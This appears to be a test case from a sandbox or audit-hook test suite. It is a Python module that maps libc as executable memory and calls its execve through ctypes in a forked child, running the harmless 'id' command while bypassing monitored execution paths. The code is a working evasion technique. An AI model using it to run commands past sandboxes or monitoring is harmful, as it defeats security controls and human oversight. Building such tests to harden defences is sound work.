"""libc's file mapped a second time, executable: its execve() needs nothing around it."""

import ctypes
import mmap
import os
import shutil

from ctypes_execve import in_a_fork
from libc_file import libc_path, offset_of


def attack(event):
    with open(libc_path(), "rb") as file:
        size = os.fstat(file.fileno()).st_size
        image = mmap.mmap(
            file.fileno(), size, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
        )
    start = ctypes.addressof(ctypes.c_char.from_buffer(image))
    kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    execve = kind(start + offset_of("execve"))
    words = (ctypes.c_char_p * 2)(b"id", None)
    nothing = (ctypes.c_char_p * 1)(None)
    return in_a_fork(event, lambda: execve(shutil.which("id").encode(), words, nothing))
